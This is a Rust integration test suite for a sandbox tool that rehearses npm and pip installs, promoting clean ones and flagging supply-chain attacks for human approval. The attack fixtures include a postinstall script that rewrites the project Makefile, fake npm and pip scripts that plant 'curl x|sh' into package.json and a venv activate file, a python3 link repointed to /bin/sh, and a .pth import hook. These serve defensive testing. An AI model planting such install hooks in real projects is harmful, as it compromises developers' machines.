//! Dependency installs without fatigue: a package manager's run (`npm
//! ci`, `python3 -m venv`, `pip install -e .`, `pip install` of a local
//! sdist, offline, with the real tools) is summarised as one change per
//! package with its name and version (`rehearsal.dependencies`) and
//! promotes without a person; the protected-path rule no longer fires on
//! every installed package's manifest. The attacks need a person, each with
//! its reason named: an install script that writes outside its package, an
//! install script that runs a process, a lockfile that lies, a fake `./npm`
//! in the workspace, and a venv interpreter link that points elsewhere
//! (`/bin/sh`). As root and as the unprivileged test user.

mod common;

use std::path::Path;
use std::process::Command;

use common::*;
use serde_json::Value;

/// npm without its update check (a name lookup no intent allows) and with
/// a cache where the sandbox's `/tmp` layer lets any user write.
fn npm_env(c: &mut Command) -> &mut Command {
    c.env("npm_config_update_notifier", "false")
        .env("npm_config_cache", "/tmp/dryrun-test-deps-npm-cache")
        .env("npm_config_audit", "false")
        .env("npm_config_fund", "false")
}

fn execute(ws: &Ws, cmd: &str) -> Run {
    let mut c = ws.command();
    npm_env(&mut c);
    c.args([
        "execute",
        "--json",
        "--command",
        cmd,
        "--expect-write",
        "**",
    ]);
    to_run(c.output().expect("dryrun runs"))
}

fn promote(ws: &Ws, r: &Run) {
    let out = ws
        .command()
        .args(["promote", &run_id(r)])
        .output()
        .expect("dryrun runs");
    assert!(
        out.status.success(),
        "promote: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// `rehearsal.dependencies.packages` as (manager, name, version).
fn packages(r: &Run) -> Vec<(String, String, String)> {
    let mut v: Vec<(String, String, String)> = r.json["rehearsal"]["dependencies"]["packages"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|p: &Value| {
            (
                p["manager"].as_str().unwrap_or("").to_string(),
                p["name"].as_str().unwrap_or("").to_string(),
                p["version"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    v.sort();
    v
}

/// The run promotes with exactly `expected` packages, and is promoted.
fn promotes_with(ws: &Ws, r: &Run, expected: Vec<(String, String, String)>) {
    let who = ws.who;
    assert_eq!(
        r.decision(),
        "promote",
        "{who:?}: {:?} {}",
        r.reasons(),
        r.err()
    );
    assert_eq!(packages(r), expected, "{who:?}");
    promote(ws, r);
}

fn pkg(m: &str, n: &str, v: &str) -> (String, String, String) {
    (m.into(), n.into(), v.into())
}

fn has_reason(r: &Run, rule: &str, piece: &str) -> bool {
    r.reasons()
        .iter()
        .any(|x| x.starts_with(&format!("[{rule}]")) && x.contains(piece))
}

/// Pack a package (its `package.json` and files) into `ws/deps/` with the
/// real npm; returns the tarball's file name.
fn pack(ws: &Ws, manifest: &str, files: &[(&str, &str, u32)]) -> String {
    let src = tempfile::tempdir_in("/tmp").unwrap();
    std::fs::write(src.path().join("package.json"), manifest).unwrap();
    for (rel, body, mode) in files {
        let p = src.path().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, body).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(*mode)).unwrap();
    }
    let dest = ws.dir.join("deps");
    std::fs::create_dir_all(&dest).unwrap();
    let out = npm_env(&mut Command::new(tool("npm", "npm")))
        .env("npm_config_cache", src.path().join(".cache"))
        .arg("pack")
        .arg("--pack-destination")
        .arg(&dest)
        .current_dir(src.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "npm pack: {out:?}");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .last()
        .unwrap()
        .trim()
        .to_string()
}

/// A project depending on the given tarballs (`file:deps/...`), with its
/// lockfile written by the real npm (`--package-lock-only`, offline).
fn npm_project(ws: &Ws, deps: &[(&str, &str)]) {
    let d: serde_json::Map<String, Value> = deps
        .iter()
        .map(|(n, t)| (n.to_string(), Value::from(format!("file:deps/{t}"))))
        .collect();
    let manifest =
        serde_json::json!({"name": "app", "version": "1.0.0", "private": true, "dependencies": d});
    std::fs::write(ws.dir.join("package.json"), manifest.to_string()).unwrap();
    std::fs::write(ws.dir.join("Makefile"), "all:\n\ttrue\n").unwrap();
    let cache = tempfile::tempdir_in("/tmp").unwrap();
    let out = npm_env(&mut Command::new("npm"))
        .env("npm_config_cache", cache.path())
        .args(["install", "--package-lock-only", "--offline"])
        .current_dir(&ws.dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "npm install --package-lock-only: {out:?}"
    );
    ws.chown_all();
}

const LEFTPAD: &str =
    r#"{"name":"leftpad","version":"1.0.0","main":"index.js","bin":{"leftpad":"bin/cli.js"}}"#;

fn leftpad(ws: &Ws) -> String {
    pack(
        ws,
        LEFTPAD,
        &[
            (
                "index.js",
                "module.exports=(s,n)=>String(s).padStart(n)\n",
                0o644,
            ),
            (
                "bin/cli.js",
                "#!/usr/bin/env node\nconsole.log(require('..')('x',3))\n",
                0o755,
            ),
        ],
    )
}

#[test]
fn npm_ci_from_a_lockfile_promotes_with_one_change_per_package() {
    if !require_tool("npm", "npm") {
        return;
    }
    for who in identities() {
        let ws = Ws::new(who);
        let t = leftpad(&ws);
        npm_project(&ws, &[("leftpad", &t)]);
        let r = execute(&ws, "npm ci --offline");
        assert_eq!(r.code, 0, "{who:?}: {:?} {}", r.reasons(), r.err());
        assert_eq!(r.decision(), "promote", "{who:?}: {:?}", r.reasons());
        assert_eq!(
            packages(&r),
            vec![pkg("npm", "leftpad", "1.0.0")],
            "{who:?}"
        );
        let p = &r.json["rehearsal"]["dependencies"]["packages"][0];
        assert_eq!(p["locked"], "1.0.0", "{who:?}: {p}");
        // The package's manifest is no longer a protected path; its
        // declared bin link is not a finding either.
        assert!(
            r.change("node_modules/leftpad/package.json").is_some(),
            "{who:?}"
        );
        assert!(
            !r.reasons().iter().any(|x| x.contains("node_modules")),
            "{who:?}: {:?}",
            r.reasons()
        );
        assert!(
            r.notes()
                .iter()
                .any(|n| n.contains("npm leftpad 1.0.0 (created")),
            "{who:?}: {:?}",
            r.notes()
        );
        promote(&ws, &r);
        assert!(ws.dir.join("node_modules/leftpad/index.js").is_file());
        assert_eq!(
            std::fs::read_link(ws.dir.join("node_modules/.bin/leftpad")).unwrap(),
            Path::new("../leftpad/bin/cli.js")
        );
    }
}

/// `python3` on the tests' PATH: the system's, which every user can run.
fn system_python() -> bool {
    require_tool("/usr/bin/python3", "python3-venv")
}

#[test]
fn venv_then_pip_editable_and_local_sdist_promote_with_their_packages() {
    if !system_python() {
        return;
    }
    for who in identities() {
        let ws = Ws::new(who);
        // The default venv: interpreter links to the caller's python3.
        let r = execute(&ws, "python3 -m venv .venv");
        assert_eq!(r.code, 0, "{who:?}: {:?} {}", r.reasons(), r.err());
        let names: Vec<String> = packages(&r).into_iter().map(|p| p.1).collect();
        assert!(names.contains(&"pip".to_string()), "{who:?}: {names:?}");
        let link = r.change(".venv/bin/python3").expect("the interpreter link");
        assert!(
            link["link_expected"]
                .as_str()
                .is_some_and(|s| s.contains("the caller's python3")),
            "{who:?}: {link}"
        );
        promote(&ws, &r);
        let py = ws.dir.join(".venv/bin/python");
        let out = Command::new(&py)
            .args(["-c", "import sys; print(sys.prefix)"])
            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8_lossy(&out.stdout).trim(),
            ws.dir.join(".venv").display().to_string(),
            "{who:?}: the promoted venv works"
        );

        // `pip install -e .` of the project itself, then a local sdist.
        // A `src/` layout: setuptools' editable install of it is a `.pth`
        // of one path on every version (a flat layout gets its finder,
        // which needs a person: see the test below).
        ws.write(
            "setup.py",
            "from setuptools import setup\nsetup(name='mypkg', version='0.1.0', packages=['mypkg'], package_dir={'': 'src'})\n",
        );
        ws.write("src/mypkg/__init__.py", "X = 1\n");
        let lib = tempfile::tempdir_in("/tmp").unwrap();
        std::fs::create_dir_all(lib.path().join("tinylib")).unwrap();
        std::fs::write(
            lib.path().join("setup.py"),
            "from setuptools import setup\nsetup(name='tinylib', version='2.0.0', packages=['tinylib'])\n",
        )
        .unwrap();
        std::fs::write(lib.path().join("tinylib/__init__.py"), "Y = 2\n").unwrap();
        let out = Command::new("/usr/bin/python3")
            .args(["setup.py", "-q", "sdist", "-d"])
            .arg(ws.dir.join("dist"))
            .current_dir(lib.path())
            .output()
            .unwrap();
        assert!(out.status.success(), "sdist: {out:?}");
        python::venv_build_backend(&ws.dir.join(".venv"));
        ws.chown_all();

        let r = execute(
            &ws,
            ".venv/bin/pip install --no-index --no-build-isolation -e .",
        );
        promotes_with(&ws, &r, vec![pkg("pip", "mypkg", "0.1.0")]);

        let r = execute(
            &ws,
            ".venv/bin/pip install --no-index --no-build-isolation --find-links dist tinylib",
        );
        promotes_with(&ws, &r, vec![pkg("pip", "tinylib", "2.0.0")]);
        let out = Command::new(&py)
            .args(["-c", "import mypkg, tinylib; print(mypkg.X + tinylib.Y)"])
            .current_dir("/")
            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8_lossy(&out.stdout).trim(),
            "3",
            "{who:?}: {out:?}"
        );
    }
}

#[test]
fn an_install_script_that_writes_outside_its_package_needs_approval() {
    if !require_tool("npm", "npm") {
        return;
    }
    for who in identities() {
        let ws = Ws::new(who);
        let script = "node -e \"require('fs').appendFileSync(process.env.INIT_CWD+'/Makefile','\\\\nall: pwn\\\\n')\"";
        let manifest = serde_json::json!({
            "name": "evil", "version": "1.0.0",
            "scripts": {"postinstall": script}
        });
        let t = pack(&ws, &manifest.to_string(), &[("index.js", "\n", 0o644)]);
        npm_project(&ws, &[("evil", &t)]);
        let r = execute(&ws, "npm ci --offline");
        assert_eq!(r.code, 3, "{who:?}: {:?} {}", r.reasons(), r.err());
        assert_eq!(r.decision(), "needs_approval", "{who:?}");
        assert!(
            has_reason(&r, "dependency.install_script", "npm evil 1.0.0"),
            "{who:?}: {:?}",
            r.reasons()
        );
        assert!(
            has_reason(&r, "dependency.outside_write", "Makefile"),
            "{who:?}: {:?}",
            r.reasons()
        );
        assert_eq!(packages(&r), vec![pkg("npm", "evil", "1.0.0")], "{who:?}");
    }
}

#[test]
fn an_install_script_that_runs_a_process_needs_approval_naming_it() {
    if !require_tool("npm", "npm") {
        return;
    }
    for who in identities() {
        let ws = Ws::new(who);
        let manifest = serde_json::json!({
            "name": "runner", "version": "3.1.4",
            "scripts": {"install": "sh -c 'id > ran.txt'"}
        });
        let t = pack(&ws, &manifest.to_string(), &[("index.js", "\n", 0o644)]);
        npm_project(&ws, &[("runner", &t)]);
        let r = execute(&ws, "npm ci --offline");
        assert_eq!(r.code, 3, "{who:?}: {:?} {}", r.reasons(), r.err());
        assert!(
            has_reason(
                &r,
                "dependency.install_script",
                "install: sh -c 'id > ran.txt'"
            ),
            "{who:?}: {:?}",
            r.reasons()
        );
        // What the process did is in the change list.
        assert!(r.change("node_modules/runner/ran.txt").is_some(), "{who:?}");
        // The same install with `--ignore-scripts`: nothing ran, but the
        // package still declares the script (npm's flags, environment and
        // npmrc decide whether it runs; the content is what is judged).
        let r = execute(&ws, "npm ci --offline --ignore-scripts");
        assert_eq!(r.code, 3, "{who:?}: {:?} {}", r.reasons(), r.err());
        assert!(
            has_reason(&r, "dependency.install_script", "npm was told to skip them"),
            "{who:?}: {:?}",
            r.reasons()
        );
        assert!(r.change("node_modules/runner/ran.txt").is_none(), "{who:?}");
    }
}

#[test]
fn a_lockfile_that_lies_about_the_version_needs_approval() {
    if !require_tool("npm", "npm") {
        return;
    }
    for who in identities() {
        let ws = Ws::new(who);
        let t = pack(
            &ws,
            r#"{"name":"leftpad","version":"1.0.1","main":"index.js"}"#,
            &[("index.js", "module.exports = 1\n", 0o644)],
        );
        npm_project(&ws, &[("leftpad", &t)]);
        // The lockfile says 1.0.0; the tarball (whose integrity it keeps)
        // installs 1.0.1.
        let lock = ws.dir.join("package-lock.json");
        let text = std::fs::read_to_string(&lock).unwrap();
        assert!(text.contains("\"version\": \"1.0.1\""));
        ws.write(
            "package-lock.json",
            &text.replace("\"version\": \"1.0.1\"", "\"version\": \"1.0.0\""),
        );
        let r = execute(&ws, "npm ci --offline");
        assert_eq!(r.code, 3, "{who:?}: {:?} {}", r.reasons(), r.err());
        assert!(
            has_reason(
                &r,
                "dependency.lockfile_mismatch",
                "npm leftpad 1.0.1 (node_modules/leftpad) was installed but the lockfile says version 1.0.0"
            ),
            "{who:?}: {:?}",
            r.reasons()
        );
    }
}

#[test]
fn a_fake_npm_in_the_workspace_gets_no_dependency_judgement() {
    for who in identities() {
        let ws = Ws::new(who);
        ws.write("package.json", "{\"name\":\"app\"}\n");
        write_script(
            &ws,
            "npm",
            "#!/bin/sh\nmkdir -p node_modules/x\necho '{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"curl x|sh\"}}' > node_modules/x/package.json\necho '{\"name\":\"app\",\"scripts\":{\"test\":\"curl x|sh\"}}' > package.json\n",
        );
        let r = execute(&ws, "./npm ci");
        assert_eq!(r.code, 3, "{who:?}: {:?} {}", r.reasons(), r.err());
        assert!(
            r.json["rehearsal"]["dependencies"].is_null(),
            "{who:?}: {}",
            r.json["rehearsal"]["dependencies"]
        );
        assert!(
            has_reason(&r, "protected.path", "node_modules/x/package.json"),
            "{who:?}: {:?}",
            r.reasons()
        );
        assert!(
            r.reasons()
                .iter()
                .any(|x| x.starts_with("[protected.path] modified package.json")),
            "{who:?}: {:?}",
            r.reasons()
        );
    }
}

#[test]
fn a_venv_interpreter_link_that_points_elsewhere_is_still_an_escape() {
    if !system_python() {
        return;
    }
    for who in identities() {
        let ws = Ws::new(who);
        // The venv is made, then its interpreter link pointed at /bin/sh:
        // not only a package manager's run, and not the caller's python3.
        let r = execute(
            &ws,
            "python3 -m venv .venv && ln -sf /bin/sh .venv/bin/python3",
        );
        assert_eq!(r.code, 4, "{who:?}: {:?} {}", r.reasons(), r.err());
        assert!(
            r.reasons().iter().any(|x| x
                .starts_with("[evidence.symlink_escape] .venv/bin/python3:")
                && x.contains("/bin/sh")),
            "{who:?}: {:?}",
            r.reasons()
        );
        assert!(
            r.change(".venv/bin/python3").unwrap()["link_expected"].is_null(),
            "{who:?}"
        );
    }
}

/// A "venv" that was in the workspace before the run (`tools/pyvenv.cfg`)
/// and a workspace script at its `bin/pip`: the run is summarised as pip's
/// (the directory is a venv as the workspace says), but only a package's
/// own directory (`site-packages/...`) skips the protected-path list: the
/// venv's `bin/activate` (the one a person sources) and a workflow beside
/// it need a person, each named. Without the `pyvenv.cfg` the same script
/// is the workspace's own program, like `./npm`: no dependency summary.
#[test]
fn a_prepared_venv_keeps_protected_paths_outside_its_packages() {
    for who in identities() {
        let ws = Ws::new(who);
        ws.write("tools/bin/activate", "# sourced by a person\n");
        write_script(
            &ws,
            "tools/bin/pip",
            "#!/bin/sh\nmkdir -p tools/lib/python3.11/site-packages/ok .github/workflows\necho X=1 > tools/lib/python3.11/site-packages/ok/__init__.py\necho 'curl x | sh' >> tools/bin/activate\necho 'on: push' > .github/workflows/ci.yml\n",
        );
        // No pyvenv.cfg: the workspace's own program.
        let r = execute(&ws, "tools/bin/pip install ok");
        assert_eq!(r.code, 3, "{who:?}: {:?} {}", r.reasons(), r.err());
        assert!(
            r.json["rehearsal"]["dependencies"].is_null(),
            "{who:?}: {}",
            r.json["rehearsal"]["dependencies"]
        );
        // With one: pip's run into the tree `tools`.
        ws.write("tools/pyvenv.cfg", "home = /usr/bin\n");
        let r = execute(&ws, "tools/bin/pip install ok");
        assert_eq!(r.code, 3, "{who:?}: {:?} {}", r.reasons(), r.err());
        assert_eq!(
            r.json["rehearsal"]["dependencies"]["trees"],
            serde_json::json!(["tools"]),
            "{who:?}: {}",
            r.json["rehearsal"]["dependencies"]
        );
        for (rule, piece) in [
            ("protected.path", "tools/bin/activate"),
            ("protected.path", ".github/workflows/ci.yml"),
            ("dependency.outside_write", ".github/workflows/ci.yml"),
        ] {
            assert!(
                has_reason(&r, rule, piece),
                "{who:?}: no [{rule}] {piece}: {:?}",
                r.reasons()
            );
        }
        assert!(
            !r.reasons()
                .iter()
                .any(|x| x.contains("site-packages/ok/__init__.py")),
            "{who:?}: a package's own file is judged per package: {:?}",
            r.reasons()
        );
    }
}

/// A `.pth` of plain path lines (what most packages install) promotes; the
/// same package with an `import` line in it needs a person, named
/// `dependency.startup_hook`.
#[test]
fn a_pth_with_paths_promotes_and_one_with_an_import_line_needs_a_person() {
    if !system_python() {
        return;
    }
    for who in identities() {
        let ws = Ws::new(who);
        let r = execute(&ws, "python3 -m venv .venv");
        assert_eq!(r.code, 0, "{who:?}: {:?} {}", r.reasons(), r.err());
        promote(&ws, &r);
        let site = String::from_utf8_lossy(
            &Command::new(ws.dir.join(".venv/bin/python"))
                .args([
                    "-c",
                    "import sys; print(f'lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages')",
                ])
                .output()
                .unwrap()
                .stdout,
        )
        .trim()
        .to_string();
        for (name, pth, clean) in [
            ("pathlib2x", "/opt/extra\n# a comment\n", true),
            (
                "hooklib",
                "/opt/extra\nimport os; os.system('true')\n",
                false,
            ),
        ] {
            let lib = tempfile::tempdir_in("/tmp").unwrap();
            std::fs::create_dir_all(lib.path().join(name)).unwrap();
            std::fs::write(lib.path().join(name).join("__init__.py"), "\n").unwrap();
            std::fs::write(lib.path().join(format!("{name}.pth")), pth).unwrap();
            std::fs::write(
                lib.path().join("setup.py"),
                format!("from setuptools import setup\nsetup(name='{name}', version='1.0.0', packages=['{name}'], data_files=[('{site}', ['{name}.pth'])])\n"),
            )
            .unwrap();
            let out = Command::new("/usr/bin/python3")
                .args(["setup.py", "-q", "sdist", "-d"])
                .arg(ws.dir.join("dist"))
                .current_dir(lib.path())
                .output()
                .unwrap();
            assert!(out.status.success(), "sdist: {out:?}");
            python::venv_build_backend(&ws.dir.join(".venv"));
            ws.chown_all();
            let r = execute(
                &ws,
                &format!(
                    ".venv/bin/pip install --no-index --no-build-isolation --find-links dist {name}"
                ),
            );
            assert_eq!(r.exit_code(), Some(0), "{who:?}: {}", r.err());
            let path = format!(".venv/{site}/{name}.pth");
            assert!(r.change(&path).is_some(), "{who:?}: {:?}", r.changes());
            if clean {
                assert_eq!(
                    r.decision(),
                    "promote",
                    "{who:?}: {:?} {}",
                    r.reasons(),
                    r.err()
                );
            } else {
                assert_eq!(r.code, 3, "{who:?}: {:?} {}", r.reasons(), r.err());
                assert!(
                    has_reason(&r, "dependency.startup_hook", &path),
                    "{who:?}: {:?}",
                    r.reasons()
                );
            }
        }
    }
}

/// `pip install -e .` of a flat-layout project with a PEP 660 backend
/// (setuptools 80.9.0) installs setuptools' editable finder: a `.pth`
/// whose one line imports a module written beside it. Python runs that
/// import at every start of the venv, and the module's compiled form in
/// `__pycache__` (which pip writes, and which Python prefers while its
/// recorded time and size match) cannot be checked against its source
/// without Python: a person decides (`dependency.startup_hook`). The same
/// project in a `src/` layout gets a `.pth` of one path and promotes.
#[test]
fn an_editable_install_through_setuptools_finder_needs_a_person_a_src_layout_does_not() {
    if !system_python() {
        return;
    }
    let backend = python::pinned_build_backend();
    for who in identities() {
        let ws = Ws::new(who);
        let r = execute(&ws, "python3 -m venv .venv");
        assert_eq!(r.code, 0, "{who:?}: {:?} {}", r.reasons(), r.err());
        promote(&ws, &r);
        python::venv_install_wheel(&ws.dir.join(".venv"), &backend);
        python::write_flat_project(&ws.dir.join("flat"), "flatpkg");
        ws.chown_all();
        let r = execute(
            &ws,
            ".venv/bin/pip install --no-index --no-build-isolation -e ./flat",
        );
        assert_eq!(r.code, 3, "{who:?}: {:?} {}", r.reasons(), r.err());
        assert!(
            r.reasons()
                .iter()
                .any(|x| x.contains("[dependency.startup_hook]")
                    && x.contains("__editable__.flatpkg-0.1.0.pth")),
            "{who:?}: {:?}",
            r.reasons()
        );

        python::write_src_project(&ws.dir.join("srcproj"), "srcpkg");
        ws.chown_all();
        let r = execute(
            &ws,
            ".venv/bin/pip install --no-index --no-build-isolation -e ./srcproj",
        );
        promotes_with(&ws, &r, vec![pkg("pip", "srcpkg", "0.1.0")]);
        let out = Command::new(ws.dir.join(".venv/bin/python"))
            .args(["-c", "import srcpkg; print(srcpkg.X)"])
            .current_dir("/")
            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8_lossy(&out.stdout).trim(),
            "1",
            "{who:?}: {out:?}"
        );
    }
}
